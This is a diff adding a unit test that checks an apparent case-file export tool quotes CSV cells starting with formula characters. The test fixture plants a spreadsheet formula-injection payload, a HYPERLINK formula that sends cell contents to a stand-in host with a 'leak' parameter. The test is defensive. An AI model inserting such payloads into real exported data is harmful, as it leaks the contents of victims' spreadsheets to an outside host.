@@ -56,4 +56,18 @@ describe('package content', () => {
     expect(text).not.toContain('Words only the IIIM may read.');
     expect(text).not.toContain(SECRET.pseudonym);
   });
+
+  it('never hands a spreadsheet a formula: cells starting with = + - @ are quoted', () => {
+    const file = sampleCaseFile();
+    file.subject.nameLatin = '=HYPERLINK("http://example.invalid/?leak="&A1,"Open")';
+    file.subject.nameAr = '@SUM(1+1)';
+    const csv = packageContent(
+      [file],
+      planExport([file], { recipientName: 'IIIM', ...DEFAULT_EXPORT_OPTIONS }),
+      meta,
+    ).find((f) => f.path === 'data/persons.csv')!.text;
+    expect(csv).toContain(`"'=HYPERLINK(`);
+    expect(csv).toContain(`'@SUM(1+1)`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+  });
 });
